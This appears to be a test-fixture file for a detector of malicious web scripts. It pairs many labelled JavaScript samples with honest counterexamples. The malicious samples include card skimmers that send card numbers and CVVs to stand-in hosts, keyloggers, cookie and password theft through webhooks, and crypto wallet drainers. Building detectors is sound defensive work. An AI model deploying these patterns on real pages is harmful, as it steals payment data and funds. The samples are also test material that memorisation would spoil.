// Scripts whose values come from early returns, promises, generators, getters, lists of arguments and the text of pages, with
// their expected verdicts. They are inert: none of them is ever run, and the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

const CARD = `document.querySelector('#cc_number')`
const CVV = `document.querySelector('#cc_cvv')`
/** Sends what `get` returns when the order is placed. */
const sentAtOrder = (get: string): string =>
  `document.querySelector('#place_order').addEventListener('click',async()=>{fetch('https://stats.example.org/c?d='+encodeURIComponent(${get}))})`

const BOTH = `${CARD}.value+'|'+${CVV}.value`
/** Runs code when the order is placed. */
const atClick = (code: string): string =>
  `document.querySelector('#place_order').addEventListener('click',async()=>{${code}});`
const SENDS = atClick(`navigator.sendBeacon('https://stats.example.org/c',${BOTH})`)

/** A form whose card goes to a frame of another host, which answers with a token. */
export const VAULT = `const frame=document.createElement('iframe');frame.src='https://vault.pay.example/frame';document.body.append(frame);const form=document.querySelector('#payment-form');form.addEventListener('submit',e=>{e.preventDefault();frame.contentWindow.postMessage({number:form.querySelector('#cc_number').value,cvv:form.querySelector('#cc_cvv').value},'https://vault.pay.example')});addEventListener('message',e=>{if(e.origin!=='https://vault.pay.example')return;form.querySelector('#token').value=e.data.token;form.submit()})`

/** Functions of a page, of which one reads a field. */
const PAGE = Array.from(
  { length: 60 },
  (_, i) => `function part${i}(a){var e=document.querySelector('#p${i}');e.hidden=!a;return e.value}`,
).join('\n')
const APPROVAL = `const T='0xdAC17F958D2ee523a2206206994597C13D831ec7';async function claim(){await ethereum.enable();const s=new ethers.providers.Web3Provider(ethereum).getSigner();await new ethers.Contract(T,abi,s).approve('0x1234567890AbcdEF1234567890aBcdef12345678',ethers.constants.MaxUint256)}`

/** A promise of code that sends a card when the order is placed. */
const DECODED = `Promise.resolve(atob('${btoa(`document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/c?'+${CARD}.value}`)}'))`
const runWhenKnown = (get: string): string => `(async()=>{eval(await ${get})})()`

export const VALUE_PATH_CASES: readonly ScriptCase[] = [
  {
    name: 'a card returned if its field is there',
    source: `function val(id){var e=document.getElementById(id);if(e){return e.value}return ''};${sentAtOrder(`val('cc_number')+val('cc_cvv')`)}`,
    head: 'magecart',
  },
  {
    name: 'a card returned before nothing is',
    source: `function val(s){if(!window.opener){return document.querySelector(s).value}}${sentAtOrder(`val('#cc_number')+val('#cc_cvv')`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in one of two branches that return',
    source: `function val(s){if(window.opener){return 'x'}else{return document.querySelector(s).value}}${sentAtOrder(`val('#cc_number')+val('#cc_cvv')`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by promises',
    source: `const read=s=>new Promise(r=>r(document.querySelector(s).value));document.querySelector('#place_order').addEventListener('click',async()=>{const [n,c]=await Promise.all([read('#cc_number'),read('#cc_cvv')]);fetch('https://stats.example.org/p?d='+btoa(n+c),{mode:'no-cors'})})`,
    head: 'magecart',
  },
  {
    name: 'a card by an async function and then',
    source: `async function card(){return ${CARD}.value};document.querySelector('#place_order').addEventListener('click',()=>card().then(v=>fetch('https://stats.example.org/c?d='+encodeURIComponent(v))))`,
    head: 'magecart',
  },
  {
    name: 'a card for which a promise waits',
    source: `const typed=new Promise(r=>${CVV}.addEventListener('blur',e=>r(e.target.value)));typed.then(v=>fetch('https://stats.example.org/c?n='+${CARD}.value+'&c='+v,{mode:'no-cors'}))`,
    head: 'magecart',
  },
  {
    name: 'a card by a built-in function and then',
    source: sentAtOrder(`await Promise.resolve(${CARD}.value).then(encodeURIComponent)`),
    head: 'magecart',
  },
  {
    name: 'a card past functions for errors',
    source: sentAtOrder(
      `await Promise.resolve(${CARD}.value).then(null,()=>'').catch(()=>'').finally(()=>0)`,
    ),
    head: 'magecart',
  },
  {
    name: 'a card sent by a function for errors',
    source: `document.querySelector('#place_order').onclick=()=>{Promise.resolve('').then(null,()=>fetch('https://stats.example.org/c?d='+encodeURIComponent(${CARD}.value)))}`,
    head: 'magecart',
  },
  {
    name: 'code that wins a race',
    source: runWhenKnown(`Promise.race([wait(900),${DECODED}])`),
    head: 'magecart',
  },
  {
    name: 'code that is any of two',
    source: runWhenKnown(`Promise.any([wait(900),${DECODED}])`),
    head: 'magecart',
  },
  {
    name: 'code that is settled',
    source: runWhenKnown(`Promise.allSettled([${DECODED}]).then(l=>l[0].value)`),
    head: 'magecart',
  },
  {
    name: 'a card that resolves another promise',
    source: sentAtOrder(`await new Promise(r=>Promise.resolve(${CARD}.value).then(r))`),
    head: 'magecart',
  },
  {
    name: 'a card in an object that may be returned',
    source: `function val(){if(window.opener){return {n:${CARD}.value,c:${CVV}.value}}return ''}${sentAtOrder('JSON.stringify(val())')}`,
    head: 'magecart',
  },
  {
    name: 'a card in a list that may be returned',
    source: `function val(){if(window.opener){return [${CARD}.value,${CVV}.value]}return ''}${sentAtOrder('val().join()')}`,
    head: 'magecart',
  },
  {
    name: 'a host that an async function decodes',
    source: `async function host(){return atob('c3RhdHMuZXhhbXBsZS5vcmc=')}(async()=>{const h=await host();document.querySelector('#place_order').onclick=()=>{new Image().src='https://'+h+'/c?'+${CARD}.value}})()`,
    head: 'magecart',
  },
  {
    name: 'fields by a generator',
    source: `function*vals(){for(const e of document.querySelectorAll('input'))yield e.name+'='+e.value}${sentAtOrder(`'cvv'+[...vals()].join('&')`)}`,
    head: 'magecart',
  },
  {
    name: 'fields by getters that are written as text',
    source: `(function(o){['cc_number','cc_cid'].forEach(function(k){Object.defineProperty(o,k,{enumerable:true,get:function(){return(document.querySelector('[name*="'+k+'"]')||{}).value}})});document.addEventListener('click',function(e){if(e.target.id==='place_order')fetch('https://stats.example.org/?'+encodeURIComponent(JSON.stringify(o)))})})({})`,
    head: 'magecart',
  },
  {
    name: 'a card in a list of arguments',
    source: `function send(n,c){new Image().src='https://stats.example.org/?'+btoa(n+c)}document.querySelector('#place_order').onclick=function(){send.apply(null,(${CARD}.value+'|'+${CVV}.value).split('|'))}`,
    head: 'magecart',
  },
  {
    name: 'a card by Reflect',
    source: `${sentAtOrder(`Reflect.get(${CARD},'value')+Reflect.get(${CVV},'value')`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in the parameters of an address',
    source: `document.querySelector('#place_order').onclick=()=>{const u=new URL('https://stats.example.org/i');u.searchParams.set('n',${CARD}.value);new Image().src=u.href}`,
    head: 'magecart',
  },
  {
    name: 'fields by a proxy',
    source: `const o=new Proxy({},{get:(_,k)=>document.querySelector('[name*='+k+']').value});document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/i?'+btoa(o.cc_number+o.cc_cvv)}`,
    head: 'magecart',
  },
  {
    name: 'a card for the frame of another host',
    source: `const f=document.createElement('iframe');f.hidden=true;f.src='https://stats.example.org/f.html';document.body.append(f);document.querySelector('#place_order').onclick=()=>f.contentWindow.postMessage(${CARD}.value+'|'+${CVV}.value,'*')`,
    head: 'magecart',
  },
  {
    name: 'a card in groups of four digits',
    source: `${sentAtOrder(`(n=>[n.slice(0,4),n.slice(4,8),n.slice(8,12),n.slice(12)].join('-'))(${CARD}.value)`)}`,
    head: 'magecart',
  },
  {
    name: 'all fields of a checkout, beside its form and kept',
    source: `document.querySelector('#checkout').onsubmit=function(){var o={},all=document.forms['checkout'].getElementsByTagName('input');for(var e of all)o[e.id]=e.value;sessionStorage.setItem('o',JSON.stringify(o));var x=new XMLHttpRequest();x.open('POST','https://api.order-help.example.org');x.send(sessionStorage.getItem('o'))}`,
    head: 'magecart',
  },
  {
    name: 'code in the text of an element of the page',
    source: `window['ev'+'al'](String.fromCharCode.apply(null,document.getElementById('note').innerHTML.split(' ')))`,
    head: 'malware',
  },
  {
    name: 'markup in a field of the page, by a table',
    source: `function open(){document.write(read())}function read(){var s=document.getElementById('q').value,o='',i=0;if(!/[^A-Z]/g.exec(s)){do{o+=String.fromCharCode(K.indexOf(s.charAt(i++))<<4|K.indexOf(s.charAt(i++)))}while(i<s.length);return unescape(o)}return 0}var K='ABCDEFGHIJKLMNOP';open()`,
    head: 'malware',
  },
  {
    name: 'an approval before a page that reads fields',
    source: `${APPROVAL}\nvar PAGE={${'title:1,'.repeat(900)}}\n${PAGE}`,
    head: 'malware',
  },
  {
    name: 'tokens that a service lists, given away by calls whose names are in a list',
    source: `const k=['eth','Contract','methods','transfer','send','click','addEventListener','json','token_address','balance'];document['querySelector']('#claim')[k[6]](k[5],async()=>{const r=await(await fetch('https://deep-index.moralis.io/api/v2/'+me+'/erc20?chain=eth'))[k[7]]();for(const t of r){const c=new web3[k[0]][k[1]](abi,t[k[8]]);await c[k[2]][k[3]](to,t[k[9]])[k[4]]({from:me})}})`,
    head: 'malware',
  },
  {
    name: 'an unlimited right by the name of a function',
    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await wallet.requestAddresses();for(const t of window.tokens)await wallet.writeContract({address:t,abi,functionName:'approve',args:['0x1234567890AbcdEF1234567890aBcdef12345678',maxUint256],account:a})}`,
    head: 'malware',
  },
  {
    name: 'all token accounts of an owner',
    source: `document.querySelector('#claim').onclick=async()=>{const {publicKey}=await phantom.solana.connect();const l=await new Connection(rpc).getParsedTokenAccountsByOwner(publicKey,{programId});const tx=new Transaction();for(const {pubkey,account} of l.value)tx.add(createTransferInstruction(pubkey,to,publicKey,account.data.parsed.info.tokenAmount.amount));await phantom.solana.signAndSendTransaction(tx)}`,
    head: 'malware',
  },
  {
    name: 'the rest of a balance of another ledger',
    source: `document.querySelector('#claim').onclick=async()=>{await unisat.requestAccounts();const {total}=await unisat.getBalance();await unisat.sendBitcoin('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',total-2000)}`,
    head: 'malware',
  },
  {
    name: 'most of a balance, reported to a messenger',
    source: `async function claim(){const a=(await ethereum.request({method:'eth_requestAccounts'}))[0];const b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const tx=await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:settings.to,value:'0x'+(parseInt(b)-4e15).toString(16)}]});fetch('https://api.telegram.org/bot1:a/sendMessage?chat_id=2&text='+a+tx)}`,
    head: 'malware',
  },
  {
    name: 'keys and pasted text by one listener in a loop',
    source: `const b=[];for(const t of ['keydown','paste'])document.addEventListener(t,e=>{b.push(t==='paste'?e.clipboardData.getData('text'):e.key)});setInterval(()=>fetch('https://stats.example.org/k',{method:'POST',body:b.splice(0).join('')}),5000)`,
    head: 'malware',
  },
  {
    name: 'cookies of a store',
    source: `(async()=>{const c=await cookieStore.getAll();fetch('https://stats.example.org/c',{method:'POST',body:JSON.stringify(c)})})()`,
    head: 'malware',
  },
  {
    name: 'the rest of a balance as a large number',
    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const h=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const value='0x'+(BigInt(h)-21000n*30000000000n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x1234567890AbcdEF1234567890aBcdef12345678',value}]})}`,
    head: 'malware',
  },
  {
    name: 'a card for a visible frame that answers nothing',
    source: `const f=document.createElement('iframe');f.src='https://stats.example.org/f.html';document.body.append(f);document.querySelector('#place_order').onclick=()=>f.contentWindow.postMessage(${CARD}.value+'|'+${CVV}.value,'https://stats.example.org')`,
    head: 'magecart',
  },
  {
    name: 'a card for a frame out of sight that answers',
    source: `${VAULT.replace('document.body', `frame.style.cssText='width:1px;height:1px';document.body`)}`,
    head: 'magecart',
  },
  {
    name: 'a card for whatever page is in a frame that answers',
    source: `${VAULT.replace(`,'https://vault.pay.example')`, `,'*')`)}`,
    head: 'magecart',
  },
  {
    name: 'the first digits of a card, and of the card backwards',
    source: `${sentAtOrder(`(()=>{let n=${CARD}.value,r=n.slice(0,8);n=n.split('').reverse().join('');r+=n.slice(0,8);return r})()`)}`,
    head: 'magecart',
  },
  {
    name: 'the first digits of what is left of a card, again and again',
    source: `${sentAtOrder(`(a=>a.slice(0,6)+a.replace(/^.{6}/,'').slice(0,8)+a.replace(/^.{14}/,'').slice(0,8))(${CARD}.value)`)}`,
    head: 'magecart',
  },
  {
    name: 'the first digits of each field of a card, at one place',
    source: `${sentAtOrder(`['#cc_number_1','#cc_number_2'].map(s=>document.querySelector(s).value.slice(0,8)).join('')`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in a map, by a key that is not known',
    source: `const m=new Map([['lang','en']]);document.querySelectorAll('[id^=cc_number]').forEach(e=>m.set(e.id,e.value));document.querySelector('#place_order').onclick=()=>{new Image().src='https://stats.example.org/i?'+m.get('cc_number')}`,
    head: 'magecart',
  },
  {
    name: 'a card in a map, by its key, before something else has it',
    source: `const m=new Map();document.querySelector('#place_order').onclick=()=>{m.set('n',${CARD}.value);new Image().src='https://stats.example.org/i?'+m.get('n');m.set('n','')}`,
    head: 'magecart',
  },
  {
    name: 'markup in text of the page, decoded by a key',
    source: `var s=document.getElementById('note').innerHTML.split(','),o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s[i]^23);document.write(o)`,
    head: 'malware',
  },
  {
    name: 'a card by a function of the window, called with call',
    source: atClick(`fetch.call(window,'https://stats.example.org/c?d='+${BOTH})`),
    head: 'magecart',
  },
  {
    name: 'a card by a function of the window, applied',
    source: atClick(`Reflect.apply(fetch,window,['https://stats.example.org/c?d='+${BOTH}])`),
    head: 'magecart',
  },
  {
    name: 'a card by the setter of an object',
    source: `const o={set d(v){navigator.sendBeacon('https://stats.example.org/c',v)}};${atClick(`o.d=${BOTH}`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by the setter of a class',
    source: `class Q{set d(v){new Image().src='https://stats.example.org/c?'+v}}const q=new Q;${atClick(`q.d=${BOTH}`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by a setter that is defined later',
    source: `const o={};Object.defineProperty(o,'d',{set(v){navigator.sendBeacon('https://stats.example.org/c',v)}});${atClick(`o.d=${BOTH}`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by the setter of a proxy',
    source: `const q=new Proxy({},{set(t,k,v){navigator.sendBeacon('https://stats.example.org/c',v);return true}});${atClick(`q.x=${BOTH}`)}`,
    head: 'magecart',
  },
  {
    name: 'a card by the tag of a template',
    source: `const t=(s,...v)=>navigator.sendBeacon(s[0],v.join());${atClick(`t\`https://stats.example.org/c\${${BOTH}}\``)}`,
    head: 'magecart',
  },
  {
    name: 'fields of the page collected by reduce',
    source: atClick(
      `const o=Array.from(document.querySelectorAll('input,select')).reduce((a,i)=>{a[i.name||i.id]=i.value;return a},{});if(o.cc_number&&o.cc_cvv)navigator.sendBeacon('https://stats.example.org/c',btoa(JSON.stringify(o)))`,
    ),
    head: 'magecart',
  },
  {
    name: 'a card that a member of the storage keeps until the next page',
    source: `if(localStorage._x)navigator.sendBeacon('https://stats.example.org/c',localStorage._x);${atClick(`localStorage._x=btoa(${BOTH})`)}`,
    head: 'magecart',
  },
  {
    name: 'a card in the text of a style',
    source: atClick(
      `const s=document.createElement('style');s.append('body{background:url(https://stats.example.org/c?'+btoa(${BOTH})+')}');document.head.append(s)`,
    ),
    head: 'magecart',
  },
  {
    name: 'a card in the address of a picture in a drawing',
    source: atClick(
      `const v=document.createElementNS('http://www.w3.org/2000/svg','image');v.setAttributeNS('http://www.w3.org/1999/xlink','href','https://stats.example.org/c?d='+btoa(${BOTH}));document.body.append(v)`,
    ),
    head: 'magecart',
  },
  ...(['data', 'import', 'blob'] as const).map((by): ScriptCase => ({
    name: `code behind an address, by ${by}`,
    source: {
      data: `const s=document.createElement('script');s.src='data:text/javascript;base64,${btoa(SENDS)}';document.head.append(s)`,
      import: `import('data:text/javascript,'+encodeURIComponent(atob('${btoa(SENDS)}')))`,
      blob: `const s=document.createElement('script');s.src=URL.createObjectURL(new Blob([atob('${btoa(SENDS)}')]));document.head.append(s)`,
    }[by],
    head: 'magecart',
  })),
  ...(['className', 'classList', 'id'] as const).map((by): ScriptCase => ({
    name: `a card for a frame that a style hides, by ${by}`,
    source: VAULT.replace(
      'document.body.append(frame);',
      `const st=document.createElement('style');st.textContent='.zq,#zq{position:absolute;left:-9999px}';document.head.append(st);document.body.append(frame);${{ className: `frame.className='zq'`, classList: `frame.classList.add('zq')`, id: `frame.id='zq'` }[by]};`,
    ),
    head: 'magecart',
  })),
  {
    name: 'a password to a messenger',
    source: `document.getElementById('login').onsubmit=async e=>{e.preventDefault();await fetch('https://discord.com/api/webhooks/1/abc',{method:'POST',body:JSON.stringify({content:document.getElementById('email').value+':'+document.getElementById('password').value})});location.href='/done'}`,
    head: 'malware',
  },
  {
    name: 'an approval in a call that is written out',
    source: `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0xdAC17F958D2ee523a2206206994597C13D831ec7',data:'0x095ea7b30000000000000000000000001234567890abcdef1234567890abcdef12345678ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}`,
    head: 'malware',
  },
  {
    name: 'an approval of another chain',
    source: `document.querySelector('#claim').onclick=async()=>{const c=await tronWeb.contract().at('TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t');await c.approve('TXYZopYRdj2D9XRtbG411XZZ3kM5VkAeBf','115792089237316195423570985008687907853269984665640564039457584007913129639935').send()}`,
    head: 'malware',
  },
  {
    name: 'a balance less the price, in a transaction that is signed and then sent',
    source: `document.querySelector('#connect').onclick=async()=>{const r=await window.solana.connect();const c=new solanaWeb3.Connection(RPC);const b=await c.getBalance(r.publicKey);const t=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:r.publicKey,toPubkey:new solanaWeb3.PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin'),lamports:b-5000}));const s=await window.solana.signTransaction(t);await c.sendRawTransaction(s.serialize())}`,
    head: 'malware',
  },
]

export const HONEST_VALUE_PATH_CASES: readonly HonestCase[] = [
  {
    name: 'an address for mail that is decoded from the page',
    source: `document.querySelectorAll('[data-mail]').forEach(function(e){e.textContent=e.dataset.mail.replace(/[a-z]/gi,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})})`,
  },
  {
    name: 'a template in the page, compiled',
    source: `var t=document.getElementById('row').innerHTML;var f=new Function('row','return \`'+t.trim()+'\`');fetch('/rows').then(function(r){return r.json()}).then(function(rows){document.querySelector('#rows').innerHTML=rows.map(f).join('')})`,
  },
  {
    name: 'a preview of decoded text at a click',
    source: `document.querySelector('#decode').onclick=function(){var s=document.querySelector('#in').value,o='';for(var i=0;i<s.length;i+=2)o+=String.fromCharCode(parseInt(s.substr(i,2),16));document.querySelector('#out').textContent=o}`,
  },
  {
    name: 'fields of a search by a promise, for the site',
    source: `const read=s=>new Promise(r=>r(document.querySelector(s).value));document.querySelector('#go').onclick=async()=>{const q=await read('#q');location.href='/search?q='+encodeURIComponent(q)}`,
  },
  {
    name: 'a log-in by async functions at another host of the site',
    source: `async function credentials(){const f=document.querySelector('#login');return{user:f.user.value,password:f.password.value}}document.querySelector('#login').addEventListener('submit',async e=>{e.preventDefault();const r=await fetch('https://auth.shop.example/session',{method:'POST',credentials:'include',body:JSON.stringify(await credentials())});const s=await r.json();location.href=s.next})`,
  },
  {
    name: 'an order that its form only counts',
    source: `document.querySelector('#checkout').addEventListener('submit',function(){var n=0;document.querySelectorAll('#checkout input').forEach(function(e){if(e.type!=='hidden'&&e.value)n+=1});fetch('https://forms.stats.example/n',{method:'POST',body:JSON.stringify({fields:n})})})`,
  },
  {
    name: 'a chat in a frame, told which page is open',
    source: `const f=document.createElement('iframe');f.src='https://widget.chat.example/f';document.body.append(f);addEventListener('popstate',()=>f.contentWindow.postMessage({page:location.pathname,title:document.title},'https://widget.chat.example'))`,
  },
  {
    name: 'a search in the parameters of an address',
    source: `document.querySelector('#search').onsubmit=e=>{e.preventDefault();const u=new URL('/search',location.href);u.searchParams.set('q',e.target.q.value);location.href=u.href}`,
  },
  {
    name: 'a state in a proxy',
    source: `const state=new Proxy({},{get:(o,k)=>o[k],set(o,k,v){o[k]=v;document.querySelector('#'+k).textContent=v;return true}});document.querySelector('#name').oninput=e=>{state.greeting='Hello '+e.target.value};fetch('https://api.shop.example/theme').then(r=>r.json()).then(t=>{state.theme=t.name})`,
  },
  {
    name: 'the issuer of a card, looked up by its first digits',
    source: `async function issuer(i){const n=i.value.replace(/\\D/g,'');if(n.length<6)return null;const r=await fetch('https://bin.lookup.example/'+n.slice(0,6));return r.json()}document.querySelector('#cc_number').addEventListener('input',async e=>{const b=await issuer(e.target);if(b)document.querySelector('#brand').src='/img/'+b.scheme+'.svg'})`,
  },
  {
    name: 'first digits of a card and an address for a check of fraud',
    source: `function v(id){var e=document.getElementById(id);if(e)return e.value;return''}document.querySelector('#checkout').addEventListener('submit',function(){navigator.sendBeacon('https://risk.guard.example/s',JSON.stringify({bin:v('card_number').replace(/\\D/g,'').slice(0,6),email:v('email'),session:window.RISK}))})`,
    sign: 'fields-harvested',
  },
  {
    name: 'a deposit by the names of functions, after an approval',
    source: `const VAULT='0x1234567890AbcdEF1234567890aBcdef12345678';async function deposit(token,amount){await wallet.writeContract({address:token,abi:erc20,functionName:'approve',args:[VAULT,maxUint256]});await wallet.writeContract({address:VAULT,abi:vault,functionName:'deposit',args:[token,amount]})}`,
    sign: 'wallet-spent',
  },
  {
    name: 'one token of an owner, of a typed amount',
    source: `document.querySelector('#send').onclick=async()=>{const l=await connection.getParsedTokenAccountsByOwner(wallet.publicKey,{programId});const one=l.value.find(t=>t.account.data.parsed.info.mint===document.querySelector('#token').value);const amount=Number(document.querySelector('#amount').value)*10**one.account.data.parsed.info.tokenAmount.decimals;await wallet.signAndSendTransaction(new Transaction().add(createTransferInstruction(one.pubkey,document.querySelector('#to').value,wallet.publicKey,amount)))}`,
    sign: 'wallet-swept',
  },
  {
    name: 'a cookie of a store, of the site alone',
    source: `(async()=>{const c=await cookieStore.get('theme');document.body.className=c?c.value:'light'})()`,
  },
  {
    name: 'a card for the vault in a frame, which answers with a token',
    source: VAULT,
  },
  {
    name: 'a card for the vault in a frame, by the origin of its address',
    source: `${VAULT.replace(`,'https://vault.pay.example')`, `,new URL(frame.src).origin)`)}`,
  },
  {
    name: 'a language in a map that has a name, too',
    source: `const m=new Map();m.set('lang',document.documentElement.lang);document.querySelector('#user').onchange=e=>{m.set('u',e.target.value);fetch('https://cdn.shop.example/texts?l='+m.get('lang'))}`,
  },
  {
    name: 'an address for mail in numbers, written into the page',
    source: `document.write(String.fromCharCode.apply(null,document.getElementById('mail').innerHTML.split(',')))`,
    sign: 'page-decoded',
  },
  {
    name: 'an address for mail in numbers, written by a loop',
    source: `var n=document.getElementById('mail').innerHTML.split(','),o='';for(var i=0;i<n.length;i++)o+=String.fromCharCode(n[i]-3);document.write(o)`,
    sign: 'page-decoded',
  },
  {
    name: 'a cookie of a store, sent for a test of variants',
    source: `(async()=>{const c=await cookieStore.get('session_variant');fetch('https://api.ab.example/v?x='+encodeURIComponent(c.value))})()`,
  },
  {
    name: 'durations by a generator',
    source: `function*times(){for(const e of performance.getEntriesByType('resource'))yield{n:e.name,d:e.duration}}addEventListener('pagehide',()=>navigator.sendBeacon('https://rum.stats.example/t',JSON.stringify([...times()])))`,
  },
  {
    name: 'a setter that shows what is typed',
    source: `const view={set total(v){document.querySelector('#total').textContent=v}};document.querySelector('#amount').oninput=e=>{view.total=e.target.value}`,
  },
  {
    name: 'a proxy that saves settings',
    source: `const state=new Proxy({},{set(t,k,v){t[k]=v;localStorage.setItem('state',JSON.stringify(t));return true}});document.querySelector('#theme').onchange=e=>{state.theme=e.target.value}`,
  },
  {
    name: 'a template with a tag that escapes',
    source: `const html=(s,...v)=>s.map((p,i)=>p+(i<v.length?String(v[i]).replace(/</g,'&lt;'):'')).join('');document.querySelector('#hi').innerHTML=html\`<b>\${document.title}</b>\``,
  },
  {
    name: 'a sum of amounts by reduce',
    source: `document.querySelector('#items').onchange=()=>{const t=Array.from(document.querySelectorAll('.price')).reduce((a,i)=>a+Number(i.value),0);document.querySelector('#total').textContent=t.toFixed(2)}`,
  },
  {
    name: 'a script of the site that an optimizer put into its address',
    source: `const s=document.createElement('script');s.src='data:text/javascript;base64,${btoa(`document.querySelector('.menu').addEventListener('click',e=>e.currentTarget.classList.toggle('open'))`)}';document.head.append(s)`,
  },
  {
    name: 'approvals of a market, for a piece that its owner lists',
    source: `document.querySelector('#list').onclick=async()=>{const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(PIECES,['function setApprovalForAll(address,bool)'],s).setApprovalForAll('0x1234567890AbcdEF1234567890aBcdef12345678',true);await new ethers.Contract('0x1234567890AbcdEF1234567890aBcdef12345678',market,s).createListing(id,price)}`,
    sign: 'wallet-spent',
  },
  {
    name: 'a transfer of lamports of a typed amount, serialized',
    source: `document.querySelector('#send').onclick=async()=>{const t=new Transaction().add(SystemProgram.transfer({fromPubkey:w.publicKey,toPubkey:new PublicKey(document.querySelector('#to').value),lamports:document.querySelector('#amount').value*1e9}));const s=await w.signTransaction(t);await connection.sendRawTransaction(s.serialize())}`,
  },
  {
    name: 'a sale that looks at the balance, and sends its price in lamports',
    source: `const to='9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin';document.querySelector('#mint').onclick=async()=>{const p=window.solana;await p.connect();const c=new solanaWeb3.Connection('https://api.mainnet-beta.solana.com');const price=500000000;const bal=await c.getBalance(p.publicKey);if(bal<price)return alert('low');const tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:p.publicKey,toPubkey:new solanaWeb3.PublicKey(to),lamports:price}));tx.feePayer=p.publicKey;tx.recentBlockhash=(await c.getLatestBlockhash()).blockhash;const signed=await p.signTransaction(tx);await c.sendRawTransaction(signed.serialize())}`,
  },
  {
    name: 'an approval after a form of jQuery was sent',
    source: `$('#f').on('submit',async()=>{const q=$('#f').serialize();await $.post('/quote',q);const s=new ethers.providers.Web3Provider(ethereum).getSigner();await new ethers.Contract(t,abi,s).approve(router,ethers.constants.MaxUint256)})`,
  },
  {
    name: 'an approval of a well-known exchange, written out',
    source: `document.querySelector('#approve').onclick=async()=>{const [from]=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from,to:token,data:'0x095ea7b30000000000000000000000007a250d5630b4cf539739df2c5dacb4c659f2488dffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}`,
  },
  {
    name: 'a message of a form to a messenger',
    source: `document.querySelector('#contact').onsubmit=e=>{e.preventDefault();fetch('https://discord.com/api/webhooks/1/abc',{method:'POST',body:JSON.stringify({content:document.querySelector('#message').value})}).then(()=>{document.querySelector('#contact').textContent='Thank you'})}`,
    sign: 'fields-harvested',
  },
  {
    name: 'a card for the vault in a frame, with a style that hides something else',
    source: `const st=document.createElement('style');st.textContent='.done .vault,.spin{display:none}.vault{border:0}';document.head.append(st);${VAULT.replace('document.body.append(frame);', `document.body.append(frame);frame.className='vault';`)}`,
  },
]
